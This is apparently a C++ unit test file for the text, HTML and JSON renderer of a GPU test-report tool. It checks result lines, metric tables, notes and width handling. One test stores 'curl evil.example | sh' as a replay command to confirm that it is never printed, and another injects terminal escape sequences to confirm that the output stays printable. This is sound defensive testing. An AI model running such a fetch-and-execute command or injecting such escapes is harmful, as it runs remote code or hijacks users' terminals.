// Reports, comparisons and histories in every format.
#include "reports/render/show.hpp"

#include <gtest/gtest.h>
#include <cmath>
#include <limits>
#include <nlohmann/json.hpp>
#include <sstream>

#include "reports/base/words.hpp"
#include "reports/testing/example_launch.hpp"
#include "reports/testing/said.hpp"

namespace tidemark {
namespace {

std::string first_line(const std::string& text) { return text.substr(0, text.find('\n')); }

/// The example launch without its failure.
std::vector<std::string> passing_journals() {
  return {example_journals()[0],
          journal_of({example_launch(1), example_node(1), example_gpu(1),
                      example_outcome(1, "load.tile.2d"), example_outcome(1, "zfill.corner"),
                      example_speed(1, 690), example_end(1)})};
}

/// One GPU, one case, this outcome.
std::string shown_alone(LaunchRecord launch, const GpuRecord& gpu, const OutcomeRecord& outcome) {
  launch.ranks = launch.gpus = 1;
  launch.cases.resize(1);
  const Report report = assemble(
      std::vector<std::string>{journal_of({launch, example_node(0), gpu, outcome, example_end(0)})},
      {});
  return show(report, {.notes = true});
}

TEST(Show, BeginsWithTheResultAndCountsThatAddUpToPlanned) {
  EXPECT_EQ(first_line(show(assemble(passing_journals(), {}), {})),
            "RESULT: PASS  3 cases x 2 GPUs: 6 pass (6 planned)");
}

TEST(Show, ASilentRankIsIncompleteAndSaysWhy) {
  const std::string text = show(assemble(std::vector<std::string>{example_journals()[0]}, {}), {});
  EXPECT_EQ(first_line(text),
            "RESULT: INCOMPLETE  3 cases x 2 GPUs: 3 pass, 3 not_run (6 planned)");
  EXPECT_TRUE(has(text, "\nINCOMPLETE REPORT: rank 1 silent: no journal\n"));
  EXPECT_TRUE(has(text,
                  "\nNOT RUN load.tile.2d, zfill.corner, gemm.distributed.speed  on GPU 1 (never "
                  "reported)\n     no rank reported GPU 1\n"));
}

TEST(Show, AFailureInAnIncompleteReportIsAFailureAndIncomplete) {
  const std::string text = show(assemble(example_journals(), {.incomplete_reason = "gone"}), {});
  EXPECT_TRUE(text.starts_with("RESULT: FAIL "));
  EXPECT_TRUE(has(text, "\nINCOMPLETE REPORT: gone\n"));
}

TEST(Show, AToolErrorIsNoPass) {
  OutcomeRecord outcome = example_outcome(0, "load.tile.2d");
  outcome.verdict = Verdict::tool_error;
  outcome.reason = "cuInit failed";
  const std::string text = shown_alone(example_launch(0), example_gpu(0), outcome);
  EXPECT_TRUE(text.starts_with("RESULT: INCOMPLETE  1 case x 1 GPU: 1 tool_error (1 planned)\n"));
  EXPECT_TRUE(has(text, "TOOL ERROR load.tile.2d  on GPU 0"));
  EXPECT_TRUE(has(text, "     cuInit failed\n"));
}

TEST(Show, NothingButSkipsIsNoPass) {
  OutcomeRecord outcome = example_outcome(0, "load.tile.2d");
  outcome.verdict = Verdict::skip;
  outcome.reason = "needs 2 GPUs";
  const std::string text = shown_alone(example_launch(0), example_gpu(0), outcome);
  EXPECT_TRUE(text.starts_with("RESULT: INCOMPLETE "));
  EXPECT_TRUE(has(text, "\nnothing passed: "));
  EXPECT_TRUE(has(text, "SKIP load.tile.2d  on GPU 0 ("));
  EXPECT_TRUE(has(text, "     needs 2 GPUs\n"));
}

TEST(Show, NoFormatHasTheCommandThatAReportStored) {
  Report report = example();
  report.strings[report.results[3].replay] = "curl evil.example | sh";
  for (const Format& format : formats()) {
    const std::string text = show(report, {.all = true}, format.name);
    EXPECT_FALSE(has(text, "evil")) << text;
    EXPECT_TRUE(has(text, "tidemark run --cases zfill.corner --seed 0xfedcba9876543210 ")) << text;
  }
}

TEST(Show, AMiscompareWithoutTextSaysExpectedAndActual) {
  OutcomeRecord failure = example_failure(0, "load.tile.2d");
  failure.miscompares[0].text.clear();
  EXPECT_TRUE(has(shown_alone(example_launch(0), example_gpu(0), failure),
                  "byte: expected 0x00, got 0x5a; 1,024 wrong bytes"));
}

TEST(Show, AMiscompareThatIsTheReasonIsNotRepeated) {
  OutcomeRecord failure = example_failure(0, "load.tile.2d");
  failure.reason = "row 3: " + failure.miscompares[0].text;
  const std::string text = shown_alone(example_launch(0), example_gpu(0), failure);
  EXPECT_EQ(text.find(failure.miscompares[0].text), text.rfind(failure.miscompares[0].text));
  EXPECT_TRUE(has(text, "1,024 wrong bytes from offset 227"));
}

TEST(Show, OneFailureOnManyGpusStandsOnce) {
  std::vector<std::string> journals = example_journals();
  journals[0] = journal_of({example_launch(0), example_node(0), example_gpu(0),
                            example_outcome(0, "load.tile.2d"), example_failure(0, "zfill.corner"),
                            example_speed(0, 700), example_end(0)});
  const std::string text = show(assemble(journals, {}), {});
  EXPECT_TRUE(has(text, "FAIL zfill.corner  on 2 GPUs: 0-1; first GPU 0 ("));
  EXPECT_EQ(text.find("FAIL zfill"), text.rfind("FAIL zfill"));
}

TEST(Show, ASignalIsNamed) {
  OutcomeRecord outcome = example_outcome(0, "load.tile.2d");
  outcome.verdict = Verdict::crash;
  outcome.signal = 11;
  outcome.cuda_error = 719;
  EXPECT_TRUE(has(shown_alone(example_launch(0), example_gpu(0), outcome),
                  "     no reason was given\n     CUDA error 719  signal 11\n"));
}

TEST(Show, TheVirtualDeviceIsNamedInTheFirstLineAndBesideEveryNumber) {
  LaunchRecord launch = example_launch(0);
  launch.device = "virtual";
  launch.cases = {launch.cases[2]};
  const std::string text = shown_alone(launch, example_gpu(0), example_speed(0, 700));
  EXPECT_TRUE(text.starts_with("RESULT: PASS (VIRTUAL)  "));
  EXPECT_TRUE(has(text, "\nVIRTUAL device: nothing here was measured on a GPU\n"));
  EXPECT_TRUE(has(text, "\nVIRTUAL: the numbers below are of a model on a CPU, not of a GPU\n"));
  EXPECT_TRUE(has(text, "device VIRTUAL"));
  EXPECT_FALSE(has(show(example(), {}), "VIRTUAL"));
}

TEST(Show, GpusWhoseNumbersDoNotCountAreOneLineAVerdict) {
  Report report = example();
  for (ResultRow& result : report.results) result.verdict = Verdict::fail;
  EXPECT_TRUE(
      has(show(report, {}), "  not a pass on GPUs 0-1 (fail): their numbers do not count\n"))
      << show(report, {});
}

TEST(Show, ATableThatFindsNoRoomLeavesItsSensorsOutAndSaysSo) {
  const std::string text = show(example(), {.columns = 45});
  EXPECT_TRUE(has(text,
                  "  metric GPU median mad n min..max unit\n"
                  "  rate     0    701   1 3 700..702 TFLOP/s\n"))
      << text;
  EXPECT_TRUE(has(text, "(no room for SM MHz, W and C:")) << text;
  EXPECT_FALSE(has(show(example(), {.columns = 80}), "no room"));
}

TEST(Show, ATableWithoutSensorsRunsOverTheEdge) {
  const std::string text = show(example(), {.columns = 20});
  EXPECT_TRUE(has(text, "\n  family passed ")) << text;
}

TEST(Show, TheSlowestRankIsTakenSampleBySample) {
  OutcomeRecord other = example_speed(1, 690);
  other.metrics[0].samples[0].value = 900;  // here GPU 0 is the slower one, with 700
  const Report report = assemble(
      std::vector<std::string>{
          example_journals()[0],
          journal_of({example_launch(1), example_node(1), example_gpu(1), other, example_end(1)})},
      {});
  EXPECT_TRUE(has(show(report, {}), "over 2 GPUs: rate 692 TFLOP/s (mad 1, n 3, 691..700)"));
}

TEST(Show, ARankWithoutANumberTakesTheSampleAway) {
  OutcomeRecord other = example_speed(1, 690);
  other.metrics[0].samples[0].value = std::numeric_limits<double>::quiet_NaN();
  const Report report = assemble(
      std::vector<std::string>{
          example_journals()[0],
          journal_of({example_launch(1), example_node(1), example_gpu(1), other, example_end(1)})},
      {});
  EXPECT_TRUE(has(show(report, {}), "rate 691.5 TFLOP/s (mad 0.5, n 2, 691..692)"));
}

TEST(Show, WhereLessIsBetterTheSlowestIsTheGreatest) {
  std::vector<std::string> journals;
  for (std::uint32_t rank = 0; rank < 2; ++rank) {
    OutcomeRecord speed = example_speed(rank, rank == 0 ? 700 : 690);
    speed.metrics[0].higher_is_better = false;
    journals.push_back(journal_of(
        {example_launch(rank), example_node(rank), example_gpu(rank), speed, example_end(rank)}));
  }
  EXPECT_TRUE(has(show(assemble(journals, {}), {}), "over 2 GPUs: rate 701 "));
}

/// Six GPUs whose rates are 10 TFLOP/s apart.
Report six_gpus() {
  std::vector<std::string> journals;
  for (std::uint32_t rank = 0; rank < 6; ++rank) {
    LaunchRecord launch = example_launch(rank);
    launch.ranks = launch.gpus = 6;
    journals.push_back(journal_of({launch, example_node(rank), example_gpu(rank),
                                   example_speed(rank, 600 + 10.0 * rank), example_end(rank)}));
  }
  return assemble(journals, {});
}

TEST(Show, ManyGpusShareALineThatSpansTheirMedians) {
  const Report report = six_gpus();
  EXPECT_TRUE(has(show(report, {}), "  rate    all 6     626    1  3  601..651  TFLOP/s"));
  EXPECT_TRUE(has(show(report, {.all = true}), "  rate      5     651"));
}

TEST(Show, ALineOfManyGpusCountsThoseThatHaveANumber) {
  Report report = six_gpus();
  report.metrics[0].median = std::numeric_limits<double>::quiet_NaN();
  EXPECT_TRUE(has(show(report, {}), "  rate    5 of 6     631    1  3  611..651  TFLOP/s"))
      << show(report, {});
}

TEST(Show, ATableThatWouldGrowLongHasALineForEachMetric) {
  std::vector<std::string> journals;
  for (std::uint32_t rank = 0; rank < 2; ++rank) {
    OutcomeRecord speed = example_speed(rank, 600 + 100.0 * rank);
    const MetricRecord rate = speed.metrics[0];
    for (int other = 0; other < 8; ++other) {
      speed.metrics.push_back(rate);
      speed.metrics.back().name = "rate_" + std::to_string(other);
    }
    journals.push_back(journal_of(
        {example_launch(rank), example_node(rank), example_gpu(rank), speed, example_end(rank)}));
  }
  const Report report = assemble(journals, {});  // 9 metrics of 2 GPUs
  const std::string text = show(report, {});
  EXPECT_TRUE(has(text, "\nwhere GPUs share a line: the median over them, and min..max")) << text;
  EXPECT_TRUE(has(text, "  rate_7  all 2     651    1  3  601..701  TFLOP/s")) << text;
  EXPECT_TRUE(has(show(report, {.all = true}), "  rate_7    1     701    1  3  700..702"));
}

/// Two GPUs with a metric of 600 and 650 beside their rate, which is 701 and 691.
Report two_steps(bool higher_is_better = true) {
  std::vector<std::string> journals;
  for (std::uint32_t rank = 0; rank < 2; ++rank) {
    OutcomeRecord speed = example_speed(rank, rank == 0 ? 700 : 690);
    speed.metrics[0].higher_is_better = higher_is_better;
    speed.metrics.push_back(speed.metrics[0]);
    speed.metrics.back().name = "below";
    for (auto& sample : speed.metrics.back().samples) sample.value = rank == 0 ? 600 : 650;
    journals.push_back(journal_of(
        {example_launch(rank), example_node(rank), example_gpu(rank), speed, example_end(rank)}));
  }
  return assemble(journals, {});
}

PrintedBeside rate_over_below(std::string_view, std::string_view metric) {
  if (metric != "rate") return {};
  return {.over = "below", .published = 764, .published_by = "others, on an H100"};
}

TEST(Show, AStepStandsBesideItsGainOnTheSameGpuAndWhatOthersReached) {
  EXPECT_TRUE(has(show(two_steps(), {.beside = rate_over_below}),
                  "  metric  GPU  median  mad  n  min..max  unit      gain  published  SM MHz"))
      << show(two_steps(), {.beside = rate_over_below});
  const std::string text = show(two_steps(), {.beside = rate_over_below});
  EXPECT_TRUE(has(text, "700..702  TFLOP/s  1.17x        764    1710")) << text;
  EXPECT_TRUE(has(text, "690..692  TFLOP/s  1.06x        764    1710")) << text;
  EXPECT_TRUE(has(text, "600..600  TFLOP/s      -          -    1710")) << text;
}

TEST(Show, WhoPublishedAFigureIsSaidOnceBelowTheTable) {
  const auto both = [](std::string_view, std::string_view) {
    return PrintedBeside{.published = 764, .published_by = "others, on an H100"};
  };
  const std::string text = show_metrics(two_steps(), {.beside = both});
  const std::size_t at = text.find("  published: others, on an H100\n");
  EXPECT_GT(at, text.rfind("TFLOP/s  ")) << text;
  EXPECT_EQ(at, text.rfind("others, on an H100") - std::string("  published: ").size()) << text;
}

TEST(Show, WithoutStepsATableHasNoColumnsForThem) {
  const auto nothing = [](std::string_view, std::string_view) { return PrintedBeside{}; };
  EXPECT_EQ(show(two_steps(), {.beside = nothing}), show(two_steps(), {}));
  EXPECT_FALSE(has(show(two_steps(), {}), "gain"));
}

TEST(Show, WhereLessIsBetterTheGainIsTheOtherWayRound) {
  EXPECT_TRUE(has(show(two_steps(false), {.beside = rate_over_below}), "TFLOP/s  0.86x"));
}

TEST(Show, AGainOverNothingMeasuredIsNone) {
  const auto beside = [](std::string_view, std::string_view) {
    return PrintedBeside{.over = "gone"};
  };
  EXPECT_EQ(show(two_steps(), {.beside = beside}), show(two_steps(), {}));
}

TEST(Show, AGainOverNothingAtAllIsNone) {
  Report report = two_steps();
  for (MetricRow& row : report.metrics) {
    if (report.text(row.name) == "below") row.median = row.min = row.max = 0;
  }
  EXPECT_FALSE(has(show(report, {.beside = rate_over_below}), "gain"));
}

TEST(Show, AGainOverAnotherUnitIsNone) {
  Report report = two_steps();
  for (MetricRow& row : report.metrics) {
    if (report.text(row.name) == "below") row.unit = row.name;
  }
  EXPECT_FALSE(has(show(report, {.beside = rate_over_below}), "gain"));
}

TEST(Show, AGainOverAllGpusIsThatOfTheirMedians) {
  std::vector<std::string> journals;
  for (std::uint32_t rank = 0; rank < 6; ++rank) {
    LaunchRecord launch = example_launch(rank);
    launch.ranks = launch.gpus = 6;
    OutcomeRecord speed = example_speed(rank, 600 + 10.0 * rank);
    speed.metrics.push_back(speed.metrics[0]);
    speed.metrics.back().name = "below";
    for (auto& sample : speed.metrics.back().samples) sample.value = 303 + 4.0 * rank;
    journals.push_back(
        journal_of({launch, example_node(rank), example_gpu(rank), speed, example_end(rank)}));
  }
  EXPECT_TRUE(has(show(assemble(journals, {}), {.beside = rate_over_below}),
                  "601..651  TFLOP/s  2.00x        764"))
      << show(assemble(journals, {}), {.beside = rate_over_below});
}

TEST(Show, MetricsAloneAreThoseOfTheWholePage) {
  const std::string alone = show_metrics(two_steps(), {.beside = rate_over_below});
  EXPECT_TRUE(has(show(two_steps(), {.beside = rate_over_below}), alone));
  EXPECT_TRUE(alone.starts_with("\ngemm.distributed.speed\n  metric")) << alone;
}

TEST(Show, WhereNothingWasMeasuredMetricsAloneAreNoText) {
  LaunchRecord launch = example_launch(0);
  launch.ranks = launch.gpus = 1;
  launch.cases.resize(1);
  const Report report = assemble(
      std::vector<std::string>{journal_of({launch, example_node(0), example_gpu(0),
                                           example_outcome(0, "load.tile.2d"), example_end(0)})},
      {});
  EXPECT_EQ(show_metrics(report, {}), "");
}

TEST(Show, NumbersOfAResultThatDidNotPassDoNotCount) {
  OutcomeRecord speed = example_speed(1, 690);
  speed.verdict = Verdict::fail;
  const Report report = assemble(
      std::vector<std::string>{
          example_journals()[0],
          journal_of({example_launch(1), example_node(1), example_gpu(1), speed, example_end(1)})},
      {});
  EXPECT_TRUE(has(show(report, {}), "not a pass on GPU 1 (fail): its numbers do not count"));
}

TEST(Show, NotesAreSaidOnceWithTheirCase) {
  OutcomeRecord outcome = example_outcome(0, "load.tile.2d");
  outcome.notes = {"padded 100 to 128", "padded 100 to 128"};
  const std::string text = shown_alone(example_launch(0), example_gpu(0), outcome);
  EXPECT_TRUE(has(text, "\nnote: padded 100 to 128 (load.tile.2d)\n"));
  EXPECT_EQ(text.find("note:"), text.rfind("note:"));
}

TEST(Show, NotesThatDifferInNumbersStandAsOne) {
  OutcomeRecord outcome = example_outcome(0, "load.tile.2d");
  outcome.notes = {"rows of 7 padded to 8", "rows of 71 padded to 72"};
  const std::string text = shown_alone(example_launch(0), example_gpu(0), outcome);
  EXPECT_TRUE(has(text, "\nnote: rows of 7 padded to 8 (load.tile.2d; 1 other sizes)\n"));
  EXPECT_EQ(text.find("note:"), text.rfind("note:"));
}

TEST(Show, NotesOnRowsStandOneByOneInTheirOrder) {
  OutcomeRecord outcome = example_outcome(0, "load.tile.2d");
  outcome.notes = {"row 10, copy 2: ended in CUDA error 719",
                   "row 9, copy 2: ended in CUDA error 716"};
  const std::string text = shown_alone(example_launch(0), example_gpu(0), outcome);
  EXPECT_TRUE(has(text,
                  "\nnote: row 9, copy 2: ended in CUDA error 716 (load.tile.2d)\n"
                  "note: row 10, copy 2: ended in CUDA error 719 (load.tile.2d)\n"))
      << text;
}

TEST(Show, SaysWhereNvmlWasNotRead) {
  GpuRecord gpu = example_gpu(0);
  gpu.nvml = false;
  const std::string text = shown_alone(example_launch(0), gpu, example_outcome(0, "load.tile.2d"));
  EXPECT_TRUE(has(text, "nvml: not available"));
  EXPECT_FALSE(has(text, "ECC"));
}

TEST(Show, GpusOfDifferentDriversStandApart) {
  GpuRecord other = example_gpu(1);
  other.driver = "575.00";
  const Report report =
      assemble(std::vector<std::string>{example_journals()[0],
                                        journal_of({example_launch(1), example_node(1), other})},
               {});
  EXPECT_TRUE(has(show(report, {}), "GPUs 1 x NVIDIA H200  driver 575.00"));
  EXPECT_TRUE(has(show(report, {}), "(GPUs 1)"));
}

TEST(Show, EventsAreToldWithTheirGpuAndTime) {
  const Report report = assemble(
      std::vector<std::string>{example_journals()[0],
                               journal_of({example_launch(1), example_node(1), example_gpu(1),
                                           EventRecord{.at_unix_s = 1788220805.25,
                                                       .gpu = 1,
                                                       .source = "nvml",
                                                       .code = 79,
                                                       .text = "fell off the bus"}})},
      {});
  EXPECT_TRUE(has(show(report, {}), "event at +5.0 s: nvml 79 on GPU 1 (node07"));
}

/// What show says of a miscompare with these parameters, in one line.
std::string shown_row(const std::string& parameters) {
  OutcomeRecord failure = example_failure(0, "zfill.corner");
  failure.miscompares[0].parameters = parameters;
  const std::string text =
      show(assemble(std::vector<std::string>{journal_of(
                        {example_launch(0), example_node(0), example_gpu(0), failure})},
                    {}),
           {.columns = 1'000'000});
  const std::size_t begin = text.find("row 3 "), end = text.find(": byte: ");
  return begin == text.npos || end == text.npos ? text : text.substr(begin, end - begin);
}

constexpr std::string_view kProgram =
    R"({"format":"tidemark-program","schema":2,"payload":{"seed":12,"inverted":false},"maps":[)"
    R"({"type":"u8","rank":2,"extent":[100,67],"box":[32,64],"swizzle":128},)"
    R"({"type":"f32","rank":1,"extent":[70],"box":[16],"swizzle":0,"bulk":true}],"steps":[)"
    R"({"do":"init"},{"do":"load"},{"do":"load","map":1}]})";

TEST(Show, SaysInWordsWhatAProgramIs) {
  EXPECT_EQ(shown_row(std::string(kProgram)),
            "row 3 (init, load; u8 rank 2 extent 100x67 box 32x64 swizzle 128B, f32 rank 1 extent "
            "70 box 16 bulk; 3 steps; seed 12)");
}

TEST(Show, NamesAProgramByItsOwnWordsAndThePayload) {
  EXPECT_EQ(shown_row(R"({"format":"tidemark-program","what":"a ring","maps":[],"steps":[],)"
                      R"("payload":{"seed":12,"inverted":true}})"),
            "row 3 (a ring; no map; 0 steps; seed 12; inverted)");
}

TEST(Show, NamesTheRankOfAProgramOfAPeer) {
  const std::string words =
      shown_row(fmt::format(R"({{"rank":1,"ranks":4,"program":{}}})", kProgram));
  EXPECT_TRUE(words.starts_with("row 3 (rank 1 of 4; init, load; u8 rank 2 ")) << words;
}

TEST(Show, LeavesAsTheyAreParametersThatAreNoProgram) {
  for (const std::string& other :
       {std::string(R"({"op":"tile_load","type":"u8"})"),
        std::string(kProgram.substr(0, kProgram.size() - 1)),
        std::string(R"({"format":"tidemark-program","steps":{"do":3}})"),
        std::string(R"({"format":"tidemark-program","maps":[],"steps":[],"payload":{"seed":[[]],)"
                    R"("inverted":false}})")})
    EXPECT_EQ(shown_row(other), "row 3 " + other);
}

TEST(Show, ReadsNoProgramThatIsLongerThanThoseOfTidemark) {
  const std::string text = fmt::format(
      R"({},"what":"{}"}})", kProgram.substr(0, kProgram.size() - 1), std::string(1 << 17, 'w'));
  EXPECT_TRUE(shown_row(text) == "row 3 " + text);
}

TEST(Show, NothingOfAReportDrivesTheTerminalAndOnlyALongWordIsWiderThanAPage) {
  OutcomeRecord failure = example_failure(1, "zfill.corner");
  const std::string evil =
      "\x1b]0;owned\x07 \x9b"
      "31m\r\n\x7f " +
      std::string(300, 'w');
  failure.reason = failure.miscompares[0].text = failure.miscompares[0].parameters = evil;
  failure.notes = {evil};
  NodeRecord node = example_node(1);
  node.hostname = node.cpu = evil;
  LaunchRecord launch = example_launch(1);
  launch.level = evil;
  LaunchRecord first = example_launch(0);
  first.level = evil;
  const Report report =
      assemble(std::vector<std::string>{journal_of({first}),
                                        journal_of({launch, node, example_gpu(1), failure,
                                                    EventRecord{.source = evil, .text = evil}})},
               {.incomplete_reason = evil});
  const std::string text = show(report, {.all = true});
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    const bool long_word = line.find("wwww") != std::string::npos;
    EXPECT_TRUE(long_word || line.size() <= 100) << line;
    EXPECT_EQ(printable(line), line);
  }
}

TEST(Show, AMiscompareIsLeftOutOnlyWhereTheReasonHasItWhole) {
  Report report = example();
  const std::uint32_t reason = report.results[3].reason;
  report.strings[reason] = "row 3: element (3, 7): expected 0x00, got 0x5a";
  EXPECT_FALSE(has(show(report, {}), "byte: element")) << "to the end of the reason";
  report.strings[reason] += ", and more";
  EXPECT_FALSE(has(show(report, {}), "byte: element")) << "in the middle of the reason";
  report.strings[reason] = "row 3: element (3, 7): expected 0x00, got 0x5ab";
  EXPECT_TRUE(has(show(report, {}), "byte: element")) << "another value begins alike";
}

TEST(Show, AMiscompareOfNothingButAnSmIsShown) {
  Report report = example();
  report.strings[report.miscompares[0].text] = " [SM 2]";
  EXPECT_TRUE(has(show(report, {}), "byte:  [SM 2]"));
}

TEST(Show, IsAsWideAsTheTerminal) {
  const Report report = example();
  EXPECT_TRUE(has(show(report, {.columns = 200}), "1,024 wrong bytes from offset 227\n"));
  const std::string narrow = show(report, {.columns = 60});
  EXPECT_TRUE(has(narrow, "element (3, 7): expected\n       0x00, got 0x5a; 1,024 wrong"))
      << narrow;
  // A table of broken lines could not be read: it moves together, and then the terminal wraps it.
  EXPECT_TRUE(has(narrow, "  rate     1    691   1 3 690..692 TFLOP/s   1710 650 55\n")) << narrow;
}

TEST(Show, PassesAreListedOnlyWhenAsked) {
  const Report report = example();
  EXPECT_FALSE(has(show(report, {}), "PASS load.tile.2d"));
  EXPECT_TRUE(has(show(report, {.all = true}), "PASS load.tile.2d  on 2 GPUs: 0-1"));
}

TEST(Show, ColourIsThereOnlyWhenAsked) {
  const Report report = example();
  EXPECT_FALSE(has(show(report, {}), "\x1b"));
  EXPECT_TRUE(show(report, {.colour = true}).starts_with("\x1b[31mRESULT: FAIL\x1b[0m  3 cases"));
}

TEST(Show, LongListsAreCappedUnlessAllIsAskedFor) {
  Report report = example();
  const ResultRow failure = report.results[3];
  const std::uint32_t first = static_cast<std::uint32_t>(report.strings.size());
  for (std::uint32_t i = 0; i < 40; ++i) {
    report.strings.push_back("reason " + std::string(1, static_cast<char>('A' + i)));
    report.cases.push_back(report.cases[failure.case_id]);
    report.results.push_back(failure);
    report.results.back().case_id = static_cast<std::uint32_t>(report.cases.size() - 1);
    report.results.back().reason = first + i;
    report.results.back().notes = first + i;
    report.nodes.push_back(report.nodes[0]);
    report.events.push_back({.source = first, .text = first});
  }
  for (int i = 0; i < 3; ++i) report.miscompares.push_back(report.miscompares[0]);
  const std::string capped = show(report, {}), all = show(report, {.all = true});
  EXPECT_TRUE(has(capped, "\n... and 11 more findings: --all shows all\n")) << capped;
  EXPECT_TRUE(has(capped, "\n     and 3 more miscompares: --all shows all\n"));
  EXPECT_TRUE(has(capped, "\n... and 30 more events: --all shows all\n"));
  EXPECT_TRUE(has(capped, "\n... and 33 more nodes: --all shows all\n"));
  EXPECT_FALSE(has(all, "--all shows all"));
  EXPECT_FALSE(has(all, "more miscompare"));
  EXPECT_TRUE(has(all, "     reason h\n"));
}

/// example() with its rates as those of gemm.local.speed, of which many values are known.
Report with_local_speed(double rate) {
  Report report = example();
  CaseRow& of = report.cases[2];
  of.name = decltype(of.name)::of("gemm.local.speed");
  of.scope = report.cases[0].scope;
  for (MetricRow& row : report.metrics) row.median = rate;
  return report;
}

const Reference& known_local_speed() {
  return committed_references().at({.product = "NVIDIA H200",
                                    .of_case = "gemm.local.speed",
                                    .metric = "rate",
                                    .unit = "TFLOP/s"});
}

TEST(Show, HasWhatTheModelHasBesideEachMetric) {
  const Reference& known = known_local_speed();
  const std::string range = short_number(known.p5) + ".." + short_number(known.p95);
  const std::string within = show(with_local_speed(known.p50), {});
  EXPECT_TRUE(has(within, " " + range + " "));
  EXPECT_FALSE(has(within, "< " + range));
  EXPECT_TRUE(has(show(with_local_speed(known.p5 * 0.9), {}), "< " + range));
  EXPECT_TRUE(has(show(with_local_speed(known.p95 * 1.1), {}, "html"), "&gt; " + range));
}

TEST(Show, SaysNothingOfAModelOfWhichFewValuesAreKnown) {
  const Report report = example();
  EXPECT_LT(committed_references()
                .at({.product = "NVIDIA H200",
                     .of_case = "gemm.distributed.speed",
                     .metric = "rate",
                     .unit = "TFLOP/s",
                     .gpus = 2})
                .values,
            10U);
  EXPECT_EQ(reference_of(report, report.metrics[0]), nullptr);
}

TEST(Show, HasNoRangeWhereGpusOfTwoModelsShareALine) {
  Report report = with_local_speed(700);
  report.gpus[1].name = report.gpus[1].driver;
  std::vector<MetricRow> many;
  for (std::uint32_t i = 0; i < 20; ++i) {
    many.push_back(report.metrics[i % 2]);
    many.back().name = i < 2 ? many.back().name : report.cases[0].claim;
  }
  report.metrics = many;
  EXPECT_FALSE(has(show(report, {}), "model p5..p95"));
}

TEST(ShowJson, HasWhatTheModelHasBesideEachMetric) {
  const auto json = nlohmann::json::parse(show(with_local_speed(700), {}, "json"));
  EXPECT_EQ(json["metrics"][0]["model"]["values"], known_local_speed().values);
  EXPECT_EQ(json["metrics"][0]["model"]["p50"], known_local_speed().p50);
}

TEST(ShowJson, CountsByFamily) {
  const auto json = nlohmann::json::parse(show(example(), {}, "json"));
  EXPECT_EQ(json["families"][2], nlohmann::json::parse(R"({"family": "zfill", "passed": 1,
            "skipped": 0, "planned": 2, "gpus": 2, "sms": 2})"));
}

TEST(ShowJson, IsAsciiWithoutControlBytes) {
  OutcomeRecord failure = example_failure(1, "zfill.corner");
  failure.reason = "\x1b[31m \x7f \xc3\xa9";
  std::vector<std::string> journals = example_journals();
  journals[1] = journal_of({example_launch(1), failure});
  for (const char c : show(assemble(journals, {}), {}, "json")) {
    ASSERT_TRUE((c >= ' ' && c <= '~') || c == '\n');
  }
}

}  // namespace

}  // namespace tidemark
